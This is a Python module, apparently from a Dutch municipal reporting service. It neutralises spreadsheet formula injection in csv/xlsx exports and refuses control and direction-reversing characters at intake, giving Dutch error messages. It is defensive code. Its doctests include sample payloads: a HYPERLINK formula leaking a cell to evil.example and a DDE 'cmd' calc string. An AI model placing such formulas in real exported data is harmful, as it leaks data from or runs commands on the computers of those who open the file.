"""Text that is safe in a spreadsheet cell, and the characters refused when residents or staff type text.

Three rules, used by every export and every way text comes in (web form, Open311, REST API, csv import):

* :func:`neutralise_formula`: a text cell that a spreadsheet would read as a formula gets a leading ``'``
  (OWASP, *CSV Injection*). Numbers stay numbers.
* :func:`xlsx_text`: characters that openpyxl (XML 1.0) cannot write are replaced, so that no text can make
  an xlsx export fail.
* :func:`refused_characters` / :func:`intake_error`: control characters (other than line breaks and tabs),
  characters that reverse the reading direction and invalid code points are refused at intake, with a
  Dutch message that says what to remove and where.
"""

from __future__ import annotations

import datetime as dt
import re
import unicodedata
from collections.abc import Sequence
from dataclasses import dataclass
from typing import TypeVar

from ivp.lib.i18n import _, ngettext

# OWASP CSV Injection: a cell starting with one of these is read as a formula (or DDE) by Excel, LibreOffice
# or Google Sheets. The full-width forms are included because some spreadsheets fold them to ASCII.
FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
# A text that is only a number (Excel reads it as that number, harmless): ``-12``, ``+3,5``, ``1.2e-3``.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)*|[.,]\d+)(?:[eE][+-]?\d+)?")
# openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE, lone surrogates (no UTF-8 for them) and the two XML 1.0
# non-characters; any of them makes ``Workbook.save`` raise.
_XLSX_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
REPLACEMENT = "\ufffd"
# Intake: C0 controls except tab and line feed (CR is normalised to LF first), DEL and the C1 controls,
# the bidirectional embeddings/overrides/isolates (they make text read differently than it is stored,
# "Trojan Source", CVE-2021-42574), lone surrogates and the non-characters U+FFFE/U+FFFF.
_REFUSED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]")
_BIDI = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")

T = TypeVar("T")


def neutralise_formula(value: T) -> T | str:
    """Return ``value`` so that a spreadsheet shows it as text, never runs it as a formula.

    The rule (OWASP, *CSV Injection*): a string whose first character, after any leading whitespace,
    is ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (or the full-width ``＝＋－＠``) gets a
    single quote in front. Only strings change: numbers, dates, booleans and ``None`` are returned as
    they are, and so is a string that is just a number (``-12``, ``+3,5``), which a spreadsheet reads as
    that number. Quoting cells with separators or quotes is left to :mod:`csv`; in xlsx write the result
    as a string cell (``data_type 's'``), see :func:`xlsx_text`.

    >>> neutralise_formula('=HYPERLINK("http://evil.example/?leak="&A1,"klik")')
    '\\'=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
    >>> neutralise_formula("+1+1"), neutralise_formula("-2+3"), neutralise_formula("@SUM(A1)")
    ("'+1+1", "'-2+3", "'@SUM(A1)")
    >>> neutralise_formula("  =1+1"), neutralise_formula("\\t=1"), neutralise_formula("＝1+1")
    ("'  =1+1", "'\\t=1", "'＝1+1")
    >>> neutralise_formula("cmd|' /C calc'!A0")  # DDE needs a leading = + - @ to run
    "cmd|' /C calc'!A0"
    >>> neutralise_formula(-2.5), neutralise_formula(-3), neutralise_formula("-12,5"), neutralise_formula(None)
    (-2.5, -3, '-12,5', None)
    >>> neutralise_formula("Fietsendiefstal bij het station")
    'Fietsendiefstal bij het station'
    """
    if not isinstance(value, str) or not value:
        return value
    first = value[0]
    if first not in FORMULA_START and (not first.isspace() or value.lstrip()[:1] not in FORMULA_START):
        return value  # the common case, decided on the first character
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def xlsx_text(text: str) -> str:
    """Replace what openpyxl cannot write (C0 controls but tab and line breaks, lone surrogates) by U+FFFD.

    >>> xlsx_text("a\\x01b\\x1b[31mc\\ud800")
    'a\\ufffdb\\ufffd[31mc\\ufffd'
    >>> xlsx_text("regel 1\\nregel 2\\tkolom")
    'regel 1\\nregel 2\\tkolom'
    """
    return _XLSX_ILLEGAL.sub(REPLACEMENT, text)


Cell = str | int | float | bool | dt.date | dt.datetime | None


def cell(value: Cell) -> Cell:
    """One cell for csv or xlsx: text cleaned (:func:`xlsx_text`) and neutralised, other values as they are.

    >>> cell("=1+1\\x1b"), cell(-1.5), cell("tekst")
    ("'=1+1\\ufffd", -1.5, 'tekst')
    """
    if isinstance(value, str):
        return neutralise_formula(xlsx_text(value))
    return value


def text_cell(value: object) -> str:
    """A cell as text, for exports whose every column is text: ``None`` becomes empty.

    >>> text_cell(None), text_cell(12), text_cell("@x")
    ('', '12', "'@x")
    """
    if value is None:
        return ""
    return str(cell(value if isinstance(value, str) else str(value)))


def row(values: Sequence[Cell]) -> list[Cell]:
    """:func:`cell` over a row."""
    return [cell(v) for v in values]


# -- intake ----------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Refused:
    """One refused character: 1-based ``position`` in the (line-break normalised) text, and the character."""

    position: int
    char: str

    @property
    def code(self) -> str:
        """``U+001B``."""
        return f"U+{ord(self.char):04X}"

    @property
    def kind(self) -> str:
        """``bidi``, ``invalid`` (surrogate, non-character) or ``control``."""
        if self.char in _BIDI:
            return "bidi"
        if unicodedata.category(self.char) == "Cs" or self.char in "\ufffe\uffff":
            return "invalid"
        return "control"


def normalise_newlines(text: str) -> str:
    r"""CR LF and a lone CR become LF (browsers send CR LF from a textarea).

    >>> normalise_newlines("a\r\nb\rc\n")
    'a\nb\nc\n'
    """
    return text.replace("\r\n", "\n").replace("\r", "\n")


def refused_characters(text: str) -> list[Refused]:
    r"""The characters refused in typed text, after :func:`normalise_newlines`.

    Refused: control characters other than tab and line break (including NUL, DEL and the C1 controls
    U+0080-U+009F), the bidirectional formatting characters U+202A-U+202E and U+2066-U+2069, lone
    surrogates and U+FFFE/U+FFFF. Accented letters, emoji, right-to-left scripts and the direction
    marks U+200E/U+200F are fine.

    >>> refused_characters("Overlast\x1b[2J bij\u202e de school")
    [Refused(position=9, char='\x1b'), Refused(position=17, char='\u202e')]
    >>> refused_characters("Regel één\r\nregel twee\tmet tab, عربى, 🚲")
    []
    >>> [r.code for r in refused_characters("\x00\x7f\x85")]
    ['U+0000', 'U+007F', 'U+0085']
    """
    return [Refused(m.start() + 1, m.group()) for m in _REFUSED.finditer(normalise_newlines(text))]


def strip_refused(text: str) -> str:
    r"""The text without the characters :func:`refused_characters` names (defence in depth at storage).

    >>> strip_refused("a\x01b\u202ec\r\nd")
    'abc\nd'
    """
    return _REFUSED.sub("", normalise_newlines(text))


def _what(found: Refused) -> str:
    if found.kind == "bidi":
        return _("een teken dat de leesrichting omdraait ({code})").format(code=found.code)
    if found.kind == "invalid":
        return _("een ongeldig teken ({code})").format(code=found.code)
    return _("een onzichtbaar stuurteken ({code})").format(code=found.code)


def describe(text: str, found: Sequence[Refused], *, limit: int = 3) -> str:
    r"""Say in Dutch which characters are refused and where, with a few words before each.

    >>> describe("Overlast\x1b bij", refused_characters("Overlast\x1b bij"))
    'een onzichtbaar stuurteken (U+001B) op positie 9 (na „Overlast”)'
    >>> describe("\x01", refused_characters("\x01"))
    'een onzichtbaar stuurteken (U+0001) op positie 1 (aan het begin)'
    """
    clean = normalise_newlines(text)
    parts = []
    for item in found[:limit]:
        before = strip_refused(clean[: item.position - 1])[-20:].replace("\n", " ").strip()
        where = (
            _("op positie {position} (na „{before}”)").format(position=item.position, before=before)
            if before
            else _("op positie {position} (aan het begin)").format(position=item.position)
        )
        parts.append(f"{_what(item)} {where}")
    text_parts = "; ".join(parts)
    if len(found) > limit:
        text_parts += " " + _("en nog {count} andere").format(count=len(found) - limit)
    return text_parts


def intake_error(label: str | None, text: str) -> str | None:
    r"""A Dutch message when ``text`` has refused characters, else ``None``; it names the field ``label``.

    Without ``label`` the message starts "Dit veld bevat", for forms that show it next to the field and
    under the field's label in the error summary.

    >>> intake_error("description", "Een\x01 tekst")  # doctest: +NORMALIZE_WHITESPACE
    '‘description’ bevat een onzichtbaar stuurteken (U+0001) op positie 4 (na „Een”).
    Haal dit teken weg (het komt vaak mee bij kopiëren uit een ander programma) en probeer het opnieuw.'
    >>> intake_error(None, "\u202eJan")  # doctest: +ELLIPSIS
    'Dit veld bevat een teken dat de leesrichting omdraait (U+202E) op positie 1 (aan het begin). ...'
    >>> intake_error("naam", "Jan") is None
    True
    """
    found = refused_characters(text)
    if not found:
        return None
    what = describe(text, found)
    advice = ngettext(
        "Haal dit teken weg (het komt vaak mee bij kopiëren uit een ander programma) en probeer het opnieuw.",
        "Haal deze tekens weg (ze komen vaak mee bij kopiëren uit een ander programma) en probeer het opnieuw.",
        len(found),
    )
    if label is None:
        return _("Dit veld bevat {what}.").format(what=what) + " " + advice
    return _("‘{label}’ bevat {what}.").format(label=label, what=what) + " " + advice
